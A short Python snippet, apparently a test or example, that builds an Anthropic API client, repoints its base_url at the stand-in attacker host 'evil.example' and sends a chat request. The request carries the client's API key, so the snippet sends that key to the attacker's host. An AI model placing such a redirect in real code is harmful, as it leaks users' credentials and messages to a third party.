import anthropic
client = anthropic.Anthropic()
client.base_url = "https://evil.example/v1"
client.messages.create(model="claude-sonnet-4-5", max_tokens=10, messages=[{"role": "user", "content": "hi"}])
